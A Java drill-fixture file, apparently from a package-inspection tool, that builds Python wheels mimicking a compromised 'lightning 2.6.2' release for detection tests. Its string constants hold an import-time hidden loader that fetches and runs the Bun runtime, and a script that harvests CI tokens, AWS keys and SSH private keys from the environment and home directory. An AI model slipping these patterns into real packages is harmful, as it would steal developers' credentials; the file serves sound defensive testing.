package dev.portcullis.audit.drill;

import dev.portcullis.store.Sha256;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * Harmless stand-ins for what drills upload (docs/DRILLS.md): a small pure-Python wheel, and the
 * lightning 2.6.2 payload rebuilt from inert text — a loader that would fetch the Bun runtime and
 * run a script, and a script that would read credentials from the environment and from files.
 * Nothing here is ever executed, imported or fetched, by Portcullis or by a drill: the files only
 * have to look to the inspection like the real thing. Wheels are built in memory (they are small)
 * with a RECORD that lists every entry's real hash, as a build back-end writes it.
 */
public final class StandIn {

    /** A loader that would download a Bun release and run the bundled script with it. */
    public static final String LOADER = """
      import os, subprocess, urllib.request, zipfile

      BUN = "https://github.com/oven-sh/bun/releases/download/bun-v1.3.13/bun-linux-x64.zip"


      def main():
          here = os.path.dirname(os.path.abspath(__file__))
          archive = os.path.join(here, "bun.zip")
          urllib.request.urlretrieve(BUN, archive)
          zipfile.ZipFile(archive).extractall(here)
          subprocess.run([os.path.join(here, "bun-linux-x64", "bun"), os.path.join(here, "router_runtime.js")],
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


      if __name__ == "__main__":
          main()
      """;

    /** An {@code __init__.py} (format with the version) that starts the loader in a daemon thread, output discarded. */
    public static final String COMPROMISED_INIT = """
      import os, subprocess, sys, threading

      VERSION = "%s"


      def _start_runtime():
          here = os.path.join(os.path.dirname(__file__), "_runtime")
          subprocess.Popen([sys.executable, os.path.join(here, "start.py")], cwd=here,
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


      threading.Thread(target=_start_runtime, daemon=True).start()
      """;

    /** The script the loader would run: it collects CI and cloud credentials from the environment and from files. */
    public static final String CREDENTIAL_SCRIPT = """
      const fs = require("fs"), os = require("os"), path = require("path");
      const names = ["GITHUB_TOKEN", "NPM_TOKEN", "PYPI_TOKEN", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"];
      const found = {};
      for (const name of names) { if (process.env[name]) found[name] = process.env[name]; }
      for (const file of [".pypirc", ".npmrc", ".aws/credentials", ".ssh/id_rsa", ".docker/config.json"]) {
        try { found[file] = fs.readFileSync(path.join(os.homedir(), file), "utf8"); } catch (e) {}
      }
      module.exports = found;
      """;

    private StandIn() {}

    /** The module name of a project ({@code drill-stolen-token-1a2b} → {@code drill_stolen_token_1a2b}). */
    public static String module(String project) {
        return project.replace('-', '_').replace('.', '_');
    }

    /** An ordinary release: the package with a module that changes a little from version to version. */
    public static Map<String, byte[]> clean(String project, String version) {
        String pkg = module(project);
        Map<String, byte[]> files = new LinkedHashMap<>();
        files.put(
                pkg + "/__init__.py", utf8("from " + pkg + ".core import Trainer\n\nVERSION = \"" + version + "\"\n"));
        files.put(pkg + "/core.py", utf8(String.format(java.util.Locale.ROOT, """
        class Trainer:
            \"\"\"Runs a training loop (release %s).\"\"\"

            def __init__(self, max_epochs=1):
                self.max_epochs = max_epochs

            def fit(self, model, data):
                for _ in range(self.max_epochs):
                    for batch in data:
                        model.step(batch)
                return model
        """, version)));
        return files;
    }

    /** The clean release plus only the added {@code _runtime} module: the loader and the credential script. */
    public static Map<String, byte[]> withPayload(String project, String version) {
        String pkg = module(project);
        Map<String, byte[]> files = clean(project, version);
        files.put(pkg + "/_runtime/__init__.py", new byte[0]);
        files.put(pkg + "/_runtime/start.py", utf8(LOADER));
        files.put(pkg + "/_runtime/router_runtime.js", utf8(CREDENTIAL_SCRIPT));
        return files;
    }

    /** The lightning 2.6.2 shape: the payload, and an {@code __init__.py} that starts it on import. */
    public static Map<String, byte[]> compromised(String project, String version) {
        Map<String, byte[]> files = withPayload(project, version);
        files.put(
                module(project) + "/__init__.py",
                utf8(String.format(java.util.Locale.ROOT, COMPROMISED_INIT, version)));
        return files;
    }

    /** {@code bytes} of incompressible model data (a seeded random source, so a drill's wheels are reproducible). */
    public static byte[] modelData(int bytes, long seed) {
        byte[] data = new byte[bytes];
        new Random(seed).nextBytes(data);
        return data;
    }

    public static String wheelName(String project, String version) {
        return module(project) + "-" + version + "-py3-none-any.whl";
    }

    /** A py3-none-any wheel of {@code files} with METADATA ({@code requires} as Requires-Dist), WHEEL and RECORD. */
    public static byte[] wheel(String name, String version, Map<String, byte[]> files, List<String> requires) {
        return wheel(name, version, name, version, files, requires);
    }

    /** As above, with METADATA claiming {@code metadataName} {@code metadataVersion} (tests build mismatches with it). */
    public static byte[] wheel(
            String name,
            String version,
            String metadataName,
            String metadataVersion,
            Map<String, byte[]> files,
            List<String> requires) {
        String dist = module(name) + "-" + version;
        Map<String, byte[]> entries = new LinkedHashMap<>(files);
        StringBuilder metadata = new StringBuilder(
                "Metadata-Version: 2.1\nName: " + metadataName + "\nVersion: " + metadataVersion + "\n");
        requires.forEach(r -> metadata.append("Requires-Dist: ").append(r).append('\n'));
        entries.put(dist + ".dist-info/METADATA", utf8(metadata + "\n"));
        entries.put(
                dist + ".dist-info/WHEEL",
                utf8("Wheel-Version: 1.0\nGenerator: portcullis\nRoot-Is-Purelib: true\nTag: py3-none-any\n"));
        StringBuilder record = new StringBuilder();
        entries.forEach((path, content) -> record.append(path)
                .append(",sha256=")
                .append(Base64.getUrlEncoder()
                        .withoutPadding()
                        .encodeToString(HexFormat.of().parseHex(Sha256.hex(content))))
                .append(',')
                .append(content.length)
                .append('\n'));
        entries.put(dist + ".dist-info/RECORD", utf8(record + dist + ".dist-info/RECORD,,\n"));
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (Map.Entry<String, byte[]> e : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(e.getKey()));
                zip.write(e.getValue());
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
